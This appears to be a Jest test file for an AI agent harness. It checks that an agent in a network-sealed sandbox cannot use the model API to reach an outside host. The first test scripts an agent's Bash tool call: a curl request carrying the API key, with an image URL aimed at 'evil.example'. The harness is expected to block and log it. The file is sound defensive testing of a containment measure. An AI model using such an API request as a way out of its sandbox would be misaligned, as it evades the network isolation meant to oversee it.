/** The API as a way out of a sealed network, with the real CLI: what an agent asks it for with its own token, and WebSearch. */
import fs from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, expect, it } from '@jest/globals'
import { DEFAULT_SANDBOX } from '../../../src/session/configuration/sandbox-settings.js'
import type { AnswerBlock } from '../../support/messages-scenario.js'
import { describeUnless } from '../../support/tools/describe-unless.js'
import { namespacesReason } from '../../support/tools/namespaces.js'
import { setSessionStage, type SessionStage } from '../session-stage.js'

let stage: SessionStage
beforeEach(() => {
  stage = setSessionStage()
})
afterEach(() => stage.close())

const sandbox = { ...DEFAULT_SANDBOX, mode: 'required', network: 'none' } as const

/** A session whose one agent calls one tool. */
function run(call: AnswerBlock, allowedTools: readonly string[]) {
  const rules = [
    { name: 'search', match: { user: /web search for the query/ }, steps: [{ text: 'Found.' }] },
    { name: 'PM', match: { user: /Build the thing/ }, steps: [{ text: '**Engineer Agent**: Look around' }] },
    {
      name: 'agent',
      match: { user: /Current Task\s+Look around/ },
      steps: [{ blocks: [call] }, { text: 'Done.\n\nSTATUS: done' }]
    }
  ]
  return stage.runReal({ rules }, { allowedTools, sandbox })
}

const source = { type: 'url', url: 'https://evil.example/?data' }
const content = [{ type: 'image', source }]
const BODY = JSON.stringify({ model: 'm', max_tokens: 1, messages: [{ role: 'user', content }] })

describeUnless(await namespacesReason(), 'the API for an agent in a sealed network', () => {
  it('fetches nothing, and the log names the run that asked for it', async () => {
    const command = `curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d '${BODY}' "$ANTHROPIC_BASE_URL/v1/messages" > results.txt 2>&1; true`
    const { record, api } = await run({ type: 'tool_use', name: 'Bash', input: { command } }, ['Bash'])
    expect(fs.readFileSync(path.join(stage.directory, 'work', 'results.txt'), 'utf8')).toContain(
      'The network of this run is sealed, and the API would fetch'
    )
    expect(JSON.stringify(api.requests.map(({ body }) => body['messages']))).not.toContain('"source"')
    expect(record.conclusion).toBe('success')
    expect(record.notices.map(({ message }) => message)).toContainEqual(
      expect.stringMatching(
        /^Engineer \(run 01\) requested POST \/v1\/messages \(The network of this run is sealed, .*https:\/\/evil\.example/
      )
    )
  })

  it('searches the web with the tool of the CLI, where the author allows it', async () => {
    const { record, api } = await run(
      { type: 'tool_use', name: 'WebSearch', input: { query: 'node releases' } },
      ['WebSearch']
    )
    const search = api.requests.find(({ rule }) => rule === 'search')
    expect(JSON.stringify(search?.body['tools'])).toContain('web_search_')
    expect(record.conclusion).toBe('success')
    expect(record.notices.filter(({ level }) => level === 'warning')).toEqual([])
  })
})
